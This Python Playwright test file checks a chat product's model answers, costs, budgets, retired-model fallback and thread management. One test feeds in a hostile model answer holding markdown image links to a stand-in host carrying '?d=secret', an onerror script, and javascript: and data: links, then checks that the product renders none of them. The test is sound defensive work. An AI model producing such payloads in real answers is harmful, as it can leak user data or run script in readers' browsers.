"""A language model in the product: its answer, what it costs, what it may not, and the threads it leaves."""

import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Locator, Page, expect

from tests.e2e.accounts import is_as_wide_as_the_screen, section_of
from tests.e2e.chatting import answers, ask, ask_to_the_end, chat_of, expect_whole_answer
from tests.e2e.conftest import OpenPage, SeededPerson, Shoot, seeded
from tests.harness import stack as product
from tests.harness.gemini_wire import GeminiWire
from tests.harness.model_server import KEY, Answer, Call, Fault, ModelServer, running_model_server
from tests.harness.stack import Stack

COUNT = Call(
    "aggregate_records",
    {
        "base": "Sales pipeline",
        "table": "Deals",
        "metrics": [{"fn": "count"}],
        "group_by": "Stage",
    },
)


@pytest.fixture(scope="module")
def model() -> Iterator[ModelServer]:
    with running_model_server(GeminiWire()) as server:
        yield server


@pytest.fixture(scope="module")
def home(_built: None, tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, list[SeededPerson]]:
    return seeded(tmp_path_factory.mktemp("modelled") / "data")


@pytest.fixture(scope="module")
def people(home: tuple[Path, list[SeededPerson]]) -> list[SeededPerson]:
    return home[1]


@pytest.fixture(scope="module")
def stack(home: tuple[Path, list[SeededPerson]], model: ModelServer) -> Iterator[Stack]:
    """The product of an operator who set a key for Gemini."""
    with product.running_stack(home[0], GEMINI_API_KEY=KEY, PLATFORM_GEMINI_URL=model.url) as running:
        yield running


def rows(page: Page) -> Locator:
    return page.get_by_role("navigation", name="Threads").get_by_role("listitem")


def act(page: Page, title: str, action: str) -> None:
    """Choose an action of a thread's menu."""
    row = rows(page).filter(has_text=title)
    row.hover()
    row.get_by_role("button", name=f"Actions for {title}").click()
    page.get_by_role("menuitem", name=action).click()


@pytest.mark.parametrize(("width", "theme"), [("wide", "light"), ("wide", "dark"), ("phone", "light")])
def test_an_answer_shows_its_cost_and_a_number_without_proof_is_marked(
    open_page: OpenPage,
    stack: Stack,
    people: list[SeededPerson],
    model: ModelServer,
    shoot: Shoot,
    width: str,
    theme: str,
) -> None:
    model.will(
        Answer(["Let me count them. ", COUNT], fresh=5_200),
        Answer(
            [
                "The deals by stage are in the table below. ",
                "About **777,777** of them are new, `777,777` in code.",
            ],
            fresh=6_100,
            thinking=300,
        ),
    )
    page = chat_of(open_page, stack, people[0], width=width, theme=theme).page

    ask_to_the_end(page, "How many deals per stage?")

    answer = answers(page).last
    expect(answer.locator("mark.unproven")).to_have_text("777,777")
    expect(answer.get_by_role("note")).to_have_text(
        "No result of this answer has: 777,777. Do not rely on it."
    )
    expect(answer.locator(".answer-meta")).to_have_text(
        re.compile(r"^[\d.]+ m?s, gemini-3.8-flash, 11,700 tokens, \$0.0\d+$")
    )
    chart = answer.get_by_role("figure", name="Chart: Records by Stage")
    expect(chart.locator(".recharts-bar-rectangle")).to_have_count(6)
    expect(chart.get_by_text("208")).to_be_visible()
    assert is_as_wide_as_the_screen(page)
    chart.scroll_into_view_if_needed()
    shoot(page, "answer")


def test_a_model_that_is_down_is_said_and_the_offline_assistant_answers(
    open_page: OpenPage, stack: Stack, people: list[SeededPerson], model: ModelServer, shoot: Shoot
) -> None:
    model.will(Fault(404, "NOT_FOUND", "This model is no longer available to new users."))
    page = chat_of(open_page, stack, people[0]).page

    ask(page, "how many open deals are there?")
    expect_whole_answer(page)

    answer = answers(page).last
    expect(answer.get_by_role("note")).to_have_text(
        "gemini-3.8-flash is retired, or this key may not use it. Ask your operator to set PLATFORM_MODEL. "
        "The offline assistant answers instead."
    )
    expect(answer.locator(".answer-meta")).to_contain_text("Offline assistant")
    expect(answer.get_by_text("How I got this")).to_be_visible()
    shoot(page, "offline instead")


def test_a_hostile_answer_loads_nothing_and_runs_nothing(
    open_page: OpenPage, stack: Stack, people: list[SeededPerson], model: ModelServer
) -> None:
    """The watch of the page fails the test when another host is asked or a script is refused."""
    model.will(
        Answer(
            [
                "![logo](https://evil.test/steal.png?d=secret) and ![x][y]\n\n[y]: https://evil.test/y.png\n\n",
                '<img src="https://evil.test/p.png" onerror="document.title=1"> [go](javascript:alert(1)) ',
                "[data](data:text/html,x) [plain](https://evil.test/page?d=secret)",
            ]
        )
    )
    page = chat_of(open_page, stack, people[0]).page

    ask_to_the_end(page, "Show me the logo")

    answer = answers(page).last
    expect(answer.locator("img")).to_have_count(0)
    targets = answer.locator(".markdown a").evaluate_all("links => links.map((link) => link.protocol)")
    assert set(targets) == {"https:"}
    expect(answer.get_by_role("link", name="plain (evil.test)")).to_be_visible()


@pytest.mark.parametrize(("width", "theme"), [("wide", "light"), ("phone", "dark")])
def test_an_admin_sees_the_cost_and_sets_a_budget_that_holds(
    open_page: OpenPage,
    stack: Stack,
    people: list[SeededPerson],
    model: ModelServer,
    shoot: Shoot,
    width: str,
    theme: str,
) -> None:
    model.will(Answer(["Hello."]))
    page = section_of(open_page, stack, people[0], "admin", "Models", width=width, theme=theme).page
    expect(page.get_by_text("Served by Google Gemini.")).to_be_visible()

    page.get_by_label("One answer, in dollars").fill("0")
    page.get_by_role("button", name="Save the budget").click()
    expect(page.get_by_text("Saved. It holds from the next request on.")).to_be_visible()
    shoot(page, "models")
    page.goto("/chat/")
    ask(page, "what can you do?")
    expect_whole_answer(page)

    expect(answers(page).last.get_by_role("note")).to_contain_text("$0.00 are set aside for one answer")
    assert model.heard == []
    page.goto("/admin/?s=models")
    page.get_by_label("One answer, in dollars").fill("")
    page.get_by_role("button", name="Save the budget").click()
    expect(page.get_by_text("Saved. It holds from the next request on.")).to_be_visible()
    assert is_as_wide_as_the_screen(page)


def test_threads_are_found_by_what_was_said_pinned_and_put_away(
    open_page: OpenPage, stack: Stack, people: list[SeededPerson], model: ModelServer, shoot: Shoot
) -> None:
    model.will(Answer(["The zebra deal is the one that you mean."]))
    page = chat_of(open_page, stack, people[1]).page
    ask_to_the_end(page, "First question")
    model.will(Answer(["Nothing of that kind."]))
    page.get_by_role("link", name="New chat").click()
    ask_to_the_end(page, "Second question")

    page.get_by_label("Search threads").fill("zebra")
    expect(rows(page)).to_have_count(1)
    expect(rows(page)).to_contain_text("The zebra deal is the one that you mean.")
    shoot(page, "found")
    page.get_by_label("Search threads").fill("")
    act(page, "First question", "Pin")
    expect(page.get_by_role("heading", name="Pinned")).to_be_visible()
    expect(rows(page).first).to_contain_text("First question")
    act(page, "First question", "Archive")
    expect(rows(page)).to_have_count(1)
    page.get_by_role("button", name="Archived").click()
    archived = page.get_by_role("navigation", name="Archived threads").get_by_role("listitem")
    expect(archived).to_contain_text("First question")
    shoot(page, "archived")
    archived.hover()
    archived.get_by_role("button", name="Actions for First question").click()
    with page.expect_download() as download:
        page.get_by_role("menuitem", name="Export as Markdown").click()
    assert Path(download.value.path()).read_text().startswith("# First question\n")
    archived.get_by_role("button", name="Actions for First question").click()
    page.get_by_role("menuitem", name="Take back from the archive").click()
    expect(page.get_by_text("Nothing is archived.")).to_be_visible()
    page.get_by_role("button", name="Back to the threads").click()
    expect(rows(page)).to_have_count(2)
